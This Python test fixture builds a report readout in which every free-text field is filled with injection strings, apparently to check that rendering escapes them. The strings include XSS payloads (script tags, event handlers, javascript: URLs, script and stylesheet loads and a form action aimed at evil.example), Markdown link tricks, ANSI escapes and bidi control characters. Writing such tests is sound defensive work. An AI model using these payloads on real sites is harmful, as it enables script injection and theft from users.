"""Texts that want to be obeyed: by a browser, by a renderer of Markdown, by a terminal."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from splitrun.check.evidence import Finding, Severity
from splitrun.judge.readout import Readout
from splitrun.measure.measured import SourceFacts, Statement
from tests.report.readouts import rich

__all__ = ["PAYLOADS", "besieged"]

ACTS = (
    "<script>hacked=1</script>",
    "<ScRiPt>hacked=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hacked=1>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hacked=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data=javascript:hacked=1>",
    "<embed src=javascript:hacked=1>",
    "<details open ontoggle=hacked=1>",
    "<body onload=hacked=1>",
    "<input autofocus onfocus=hacked=1>",
    "<select autofocus onfocus=hacked=1>",
    "<video><source onerror=hacked=1></video>",
    "<audio src=x onerror=hacked=1>",
    "<marquee onstart=hacked=1>x</marquee>",
    "<a href=javascript:hacked=1 autofocus>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><button autofocus>x</button></form>",
    "<template><script>hacked=1</script></template>",
    "<noscript><img src=x onerror=hacked=1></noscript>",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    "&#60;script&#62;hacked=1&#60;/script&#62;",
    "\\x3cscript\\x3ehacked=1\\x3c/script\\x3e",
    "\uff1cscript\uff1ehacked=1\uff1c/script\uff1e",
)
DOORS = ("", "\"'>", "</title></style></textarea>", "--></svg></summary></details></td></tr></table>")
MARKS = (
    "[x](javascript:hacked=1)", "![x](https://evil.example/x.png)", "<https://evil.example>", "https://evil.example",
    "www.evil.example", "[x]: https://evil.example", "[x][x]", "someone@evil.example", "@somebody", "# title",
    "- item", "1. item", "> quote", "---", "===", "```\ncode\n```", "~~~", "`code`", "| cell | cell |",
    "**bold**", "<!-- x -->",
    "_slanted_", "~~gone~~", "a\nb\n\n# c", "\\", "\\|", "$$x$$", "&copy;", "]]>", "\x1b[31mred\x1b[0m",
    "\u202eright to left", "\u2028line\u2029", "\x00\x07", "\ud800", "e\u0301\u0301",
    "\u6771\u4eac\U0001f680", "x" * 400,
)  # fmt: skip
PAYLOADS = (*(door + act for act in ACTS for door in DOORS), *MARKS)


def besieged() -> Readout:
    """A readout with every payload in every place that takes free text."""
    calm, whole = rich(), " ".join(PAYLOADS)
    plan = calm.plan
    near = next(found for found in calm.comparisons if found.segment is not None)
    metrics = tuple(
        planned.model_copy(
            update={"metric": planned.metric.model_copy(update={"describe": whole, "owner": whole})}
        )
        for planned in plan.metrics
    )
    told = plan.model_copy(
        update={
            "title": whole,
            "owner": whole,
            "hypothesis": plan.hypothesis.model_copy(update={"change": whole, "because": whole}),
            "assumptions": PAYLOADS,
            "metrics": metrics,
        }
    )
    levels = tuple(replace(near, level=text, says=text) for text in PAYLOADS)
    return replace(
        calm,
        plan=told,
        as_of=datetime(2026, 11, 22, tzinfo=UTC),
        comparisons=(replace(calm.comparisons[0], says=whole), *levels, *calm.comparisons[1:]),
        findings=tuple(
            Finding(code="label", severity=Severity.WARN, says=text, next=text) for text in PAYLOADS
        ),
        limitations=PAYLOADS,
        lineage=replace(
            calm.lineage,
            data=tuple(
                SourceFacts(name=text, form=text, where=text, rows=1, digest=text) for text in PAYLOADS
            ),
            sql=tuple(Statement(name=text, sql=text) for text in PAYLOADS),
            versions=tuple((text, text) for text in PAYLOADS),
        ),
    )
